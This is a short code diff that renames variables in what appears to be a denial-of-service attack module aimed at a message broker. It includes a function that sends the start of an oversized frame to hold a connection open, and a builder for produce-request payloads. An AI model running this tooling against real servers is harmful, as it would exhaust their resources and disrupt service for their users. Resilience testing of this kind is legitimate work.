@@ -62,10 +62,10 @@ def full(target: AttackTarget) -> int:
 def _send_most(connection: socket.socket) -> int:
     """Send the beginning of a large frame until the connection is closed."""
     connection.settimeout(60.0)
-    data = FRAME_BYTES.to_bytes(4, "big") + bytes(PIECE_BYTES)
-    sent = send_quietly(connection, data)
+    frame_bytes = FRAME_BYTES.to_bytes(4, "big") + bytes(PIECE_BYTES)
+    sent = send_quietly(connection, frame_bytes)
     while sent < UNFINISHED_BYTES:
-        more = send_quietly(connection, data[4:])
+        more = send_quietly(connection, frame_bytes[4:])
         if not more:
             break
         sent += more
@@ -74,11 +74,11 @@ def _send_most(connection: socket.socket) -> int:
 
 def _values(size: int, *, topic: str) -> dict[str, Any]:
     records = build_batch([Record(key=None, value=bytes(size))], timestamp_ms=1_700_000_000_000)
-    parts = [{"index": 0, "records": records}]
+    partition_data = [{"index": 0, "records": records}]
     return {
         "acks": 1,
         "timeout": 30_000,
-        "topic_data": [{"name": topic, "partition_data": parts}],
+        "topic_data": [{"name": topic, "partition_data": partition_data}],
     }
 
 
